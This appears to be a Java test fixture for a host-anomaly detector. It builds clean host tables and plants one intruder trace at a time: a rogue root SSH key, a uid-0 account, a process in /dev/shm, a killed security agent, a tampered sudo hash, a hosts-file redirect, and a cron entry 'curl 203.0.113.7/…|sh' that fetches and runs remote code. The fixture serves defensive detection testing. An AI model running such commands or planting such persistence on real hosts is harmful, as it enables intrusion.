package io.diffy.rules.finding;

import static io.diffy.schemas.TestObservations.row;

import io.diffy.schemas.Instance;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/** One trace that an intruder leaves in one table of a host that is else as all others are. */
enum Attack {
  ROOT_KEY("authorized_keys"),
  CRON_LINE("crontab"),
  ROOT_ACCOUNT("users"),
  LISTENER("listening_ports"),
  PROGRAM("processes"),
  PROGRAM_FOR_ANYBODY("processes"),
  REPLACED_PROGRAM("processes"),
  STOPPED_AGENT("processes"),
  MODULE("kernel_modules"),
  UNIT("systemd_units"),
  HOSTS_LINE("etc_hosts"),
  REPLACED_FILE("file_hash");

  final String query;

  Attack(String query) {
    this.query = query;
  }

  /** What a healthy host answers; pids and addresses are its own. */
  static Map<String, List<Map<String, String>>> clean(Instance host, int pid) {
    Map<String, List<Map<String, String>>> answers = new TreeMap<>();
    answers.put("authorized_keys", List.of(key("AAAAops")));
    answers.put("crontab", List.of(cron("/etc/crontab", "run-parts /etc/cron.daily")));
    answers.put("users", List.of(user("root", "0"), user("app", "1000")));
    answers.put("listening_ports", List.of(port("22", "/usr/sbin/sshd", pid + 2)));
    answers.put(
        "processes",
        List.of(
            process(1, "/usr/lib/systemd/systemd"),
            process(pid + 2, "/usr/sbin/sshd"),
            process(pid + 3, "/opt/falcon/falcond"),
            process(pid + 4, "/usr/bin/java")));
    answers.put("kernel_modules", List.of(module("loop"), module("ena")));
    answers.put("systemd_units", List.of(unit("ssh.service", "/usr/lib/systemd/system/")));
    answers.put(
        "etc_hosts",
        List.of(
            row("address", "127.0.0.1", "hostnames", "localhost"),
            row("address", "10.0.9.5", "hostnames", "logs.internal"),
            row("address", host.address().privateIp(), "hostnames", host.hostname())));
    answers.put("file_hash", List.of(file("/usr/sbin/sshd", "aa"), file("/usr/bin/sudo", "bb")));
    answers.put("deb_packages", List.of(installed("openssh-server"), installed("sudo")));
    return answers;
  }

  /**
   * Leaves the trace.
   *
   * @param which another is another key, program or name
   */
  void on(Map<String, List<Map<String, String>>> answers, int which) {
    List<Map<String, String>> rows = new ArrayList<>(answers.get(query));
    String name = "x" + (char) ('a' + which);
    switch (this) {
      case ROOT_KEY -> rows.add(key("AAAAevil" + name));
      case CRON_LINE -> rows.add(cron("/etc/cron.d/" + name, "curl 203.0.113.7/" + name + "|sh"));
      case ROOT_ACCOUNT -> rows.add(user(name, "0"));
      case LISTENER -> rows.add(port(Integer.toString(4444 + which), "/usr/bin/" + name, 4000));
      case PROGRAM -> rows.add(process(4000, "/usr/bin/" + name));
      case PROGRAM_FOR_ANYBODY -> rows.add(process(4000, "/dev/shm/" + name));
      case REPLACED_PROGRAM -> with(rows, "path", "/usr/sbin/sshd", "on_disk", "0");
      case STOPPED_AGENT -> rows.removeIf(row -> row.get("path").contains("falcon"));
      case MODULE -> rows.add(module(name));
      case UNIT -> rows.add(unit(name + ".service", "/etc/systemd/system/"));
      case HOSTS_LINE -> with(rows, "hostnames", "logs.internal", "address", "203.0.113." + which);
      case REPLACED_FILE -> with(rows, "path", "/usr/bin/sudo", "sha256", "cc" + name);
    }
    answers.put(query, rows);
  }

  private static void with(
      List<Map<String, String>> rows, String key, String value, String column, String text) {
    rows.replaceAll(
        row -> {
          Map<String, String> changed = new HashMap<>(row);
          changed.computeIfPresent(column, (c, old) -> row.get(key).equals(value) ? text : old);
          return changed;
        });
  }

  static Map<String, String> cron(String path, String command) {
    return row("path", path, "minute", "5", "hour", "*", "command", command);
  }

  static Map<String, String> user(String name, String uid) {
    return row("username", name, "uid", uid, "gid", uid, "shell", "/bin/sh", "directory", "/");
  }

  static Map<String, String> installed(String name) {
    return row("name", name, "version", "1", "arch", "amd64");
  }

  private static Map<String, String> key(String key) {
    return row("username", "root", "uid", "0", "key", key, "key_file", "/root/.ssh/keys");
  }

  private static Map<String, String> port(String port, String path, int pid) {
    String name = path.substring(path.lastIndexOf('/') + 1);
    return row(
        "address",
        "0.0.0.0",
        "port",
        port,
        "protocol",
        "6",
        "family",
        "2",
        "name",
        name,
        "path",
        path,
        "pid",
        Integer.toString(pid));
  }

  private static Map<String, String> process(int pid, String path) {
    String name = path.substring(path.lastIndexOf('/') + 1);
    return row(
        "pid",
        Integer.toString(pid),
        "parent",
        "1",
        "name",
        name,
        "path",
        path,
        "cmdline",
        path,
        "uid",
        "0",
        "on_disk",
        "1");
  }

  static Map<String, String> module(String name) {
    return row("name", name, "size", "16384", "used_by", "-", "status", "Live");
  }

  private static Map<String, String> unit(String id, String folder) {
    return row("id", id, "active_state", "active", "fragment_path", folder + id);
  }

  private static Map<String, String> file(String path, String hash) {
    return row("path", path, "sha256", hash, "size", "1000");
  }
}
